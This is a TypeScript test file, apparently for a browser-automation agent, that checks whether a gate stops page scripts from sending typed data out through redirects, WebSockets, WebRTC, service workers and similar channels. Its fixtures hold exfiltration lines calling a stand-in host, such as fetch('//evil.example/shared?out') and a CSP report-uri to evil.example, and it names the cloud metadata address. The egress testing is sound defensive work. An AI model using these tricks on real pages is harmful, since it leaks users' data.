/** @module-tag slow */
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { findChromiums } from './chromium/find.ts'
import { browserRig, type BrowserRig } from './testing/browser-rig.ts'
import { EGRESS_TRICKS, SECURE_TRICKS, WAYS, type Way } from './testing/egress-tricks.ts'
import { needsChromium } from './testing/needs-chromium.ts'

needsChromium()

let rig: BrowserRig
beforeAll(async () => {
  rig = await browserRig({ names: { 'inside.example': '10.0.0.5', localhost: '127.0.0.1' } })
  const { serve } = rig.village
  serve('rest.example/', 'nothing')
  serve('shop.example/to-evil', (request, response) =>
    response.writeHead(302, { location: `//evil.example/r${request.path}` }).end(),
  )
  serve('shop.example/keep-method', (_request, response) =>
    response.writeHead(307, { location: '//evil.example/kept' }).end(),
  )
  serve('shop.example/shared.js', (_request, response) =>
    response
      .setHeader('content-type', 'text/javascript')
      .end("fetch('/shared',{method:'POST',body:'out'});fetch('//evil.example/shared?out',{mode:'no-cors'})"),
  )
  serve('shop.example/posts', "<script>fetch('/posted',{method:'POST',body:'out'})</script>")
  serve('shop.example/sw.js', (_request, response) =>
    response
      .setHeader('content-type', 'text/javascript')
      .end("fetch('//evil.example/sw?out',{mode:'no-cors'})"),
  )
  serve('shop.example/csp', (_request, response) =>
    response
      .setHeader('content-security-policy', "script-src 'none'; report-uri http://evil.example/report")
      .setHeader('content-type', 'text/html')
      .end('<script>1</script>'),
  )
}, 60_000)
afterAll(() => rig.close())

test('there are at least forty tricks, and several of each way that is easily missed', () => {
  expect(EGRESS_TRICKS.length).toBeGreaterThanOrEqual(40)
  const tried = (way: Way) => [...EGRESS_TRICKS, ...SECURE_TRICKS].filter((trick) => trick.way === way).length
  expect(Object.fromEntries(WAYS.map((way) => [way, tried(way)]))).toEqual({
    redirects: 9,
    'shared workers': 4,
    WebSockets: 8,
    WebRTC: 3,
    QUIC: 1,
    'loading ahead': 12,
    'data:': 5,
    'private addresses': 11,
    names: 6,
    'service workers': 1,
    requests: 39,
  })
})

const TYPED = 'typedbytheagent'

/** The agent types on a page that has this script, and presses its button. Auto mode may open every public page; the person denies every question. */
async function press(at: string, script: string): Promise<void> {
  rig.rules('auto', ['browser(domain:shop.example)'])
  rig.answer(() => ({ allow: false }))
  rig.village.serve(
    'shop.example/',
    `<input aria-label=Field id=field><button id=go>Go</button><script>go.onclick=()=>{const V=field.value;try{${script}}catch(e){}}</script>`,
  )
  await rig.act({ action: 'navigate', url: 'http://rest.example/' })
  for (const page of rig.session().pages.slice(0, -1)) await page.close()
  const { text } = await rig.act({ action: 'navigate', url: at })
  expect(text).toContain('button "Go"')
  const [field = '', go = ''] = [...text.matchAll(/\[(e\d+)\]/g)].map(([, ref]) => ref)
  await rig.act({ action: 'type', ref: field, text: TYPED })
  // Chromium itself asks services of its maker about pages and fields, also where auto mode may open every page.
  expect(rig.village.named.filter((name) => !name.endsWith('.example'))).toEqual([])
  rig.village.arrived.length = 0
  rig.village.named.length = 0
  tunnels = rig.village.tunnels()
  await rig.act({ action: 'click', ref: go })
  await rig.act({ action: 'wait', seconds: 0.3 })
}

/** Connections for TLS before the button was pressed. */
let tunnels = 0

function gotOut(): readonly string[] {
  const out = rig.village.arrived.filter(
    ({ host, method, headers }) =>
      !host.startsWith('shop.example') ||
      !['GET', 'HEAD', 'OPTIONS'].includes(method) ||
      headers.upgrade !== undefined,
  )
  return out.map(({ method, host, path }) => `${method} ${host}${path}`)
}

test.each(EGRESS_TRICKS)('nothing leaves by $way: $name', async ({ script }) => {
  await press('http://shop.example/', script)
  expect(gotOut()).toEqual([])
  // Looking up a name already tells it to others.
  expect(rig.village.named.filter((name) => name !== 'shop.example')).toEqual([])
  expect(rig.village.tunnels()).toBe(tunnels)
})

test.each(SECURE_TRICKS)('nothing leaves a page over TLS by $way: $name', async ({ script }) => {
  await press('https://shop.example/', script)
  expect(gotOut()).toEqual([])
  expect(rig.village.named.filter((name) => name !== 'shop.example')).toEqual([])
  expect(rig.village.tunnels()).toBe(tunnels)
})

test('a page over TLS is read, and what it posts is a question', async () => {
  await press('https://shop.example/', `fetch('/vote?'+V,{method:'POST',body:V})`)
  expect(rig.asked.at(-1)?.call.title).toBe('The page wants to send POST shop.example/vote')
  expect(rig.village.tunnels()).toBeGreaterThan(0)
  rig.answer(() => ({ allow: true }))
  const seen = await rig.act({ action: 'snapshot' })
  await rig.act({ action: 'click', ref: /Go" \[(e\d+)\]/.exec(seen.text)?.[1] })
  expect(rig.village.arrived.map(({ method, body }) => [method, body])).toContainEqual(['POST', TYPED])
})

/**
 * Tricks that this Chromium does not do without a gate either, or that nothing here sees: `datagrams.test.ts` sees datagrams, and nobody sees
 * a lookup, or a connection made ahead, which Playwright switches off.
 */
const UNSEEN: ReadonlySet<string> = new Set([
  'loading ahead: a name that tells',
  'loading ahead: a connection',
  'loading ahead: a connection to a name that tells',
  'WebRTC: by TURN over TCP',
  'WebRTC: by TURN over TLS',
  'WebRTC: to a name that tells',
  'QUIC: WebTransport',
  // These need TLS, or more than a browser without a window has.
  'loading ahead: by rules, without TLS',
  'loading ahead: a page of its own host that posts',
  'shared workers: of data:',
])

describe('without a gate the same tricks do get out', () => {
  let plain: Browser
  beforeAll(async () => {
    const { port, securePort, pin } = rig.village
    const at = ['*.example', '10.0.0.5', 'localhost', '127.0.0.1', '[::1]', '169.254.169.254']
    const mapped = [
      ...at.map((host) => `MAP ${host}:80 127.0.0.1:${port}`),
      `MAP *.example:443 127.0.0.1:${securePort}`,
      `MAP 127.0.0.1:7777 127.0.0.1:${port}`,
    ]
    plain = await chromium.launch({
      executablePath: findChromiums(process.env, undefined)[0]?.path ?? '',
      chromiumSandbox: false,
      args: [`--host-resolver-rules=${mapped.join(' , ')}`, `--ignore-certificate-errors-spki-list=${pin}`],
    })
  }, 60_000)
  afterAll(() => plain.close())

  const shown = [
    ...EGRESS_TRICKS.map((trick) => ({ ...trick, at: 'http://shop.example/' })),
    ...SECURE_TRICKS.map((trick) => ({ ...trick, at: 'https://shop.example/' })),
  ].filter(({ way, name }) => !UNSEEN.has(`${way}: ${name}`))

  test('all but eleven of them', () => {
    expect(EGRESS_TRICKS.length + SECURE_TRICKS.length - shown.length).toBe(11)
  })

  test.each(shown)('$at by $way: $name', async ({ script, at }) => {
    const { village } = rig
    village.serve('shop.example/', '<button>Go</button>')
    const context = await plain.newContext()
    const page = await context.newPage()
    await page.goto(at)
    village.arrived.length = 0
    await page.evaluate(`{const V='${TYPED}';${script}}void 0`).catch(() => undefined)
    await expect.poll(gotOut, { timeout: 10_000 }).not.toEqual([])
    await context.close()
  })
})
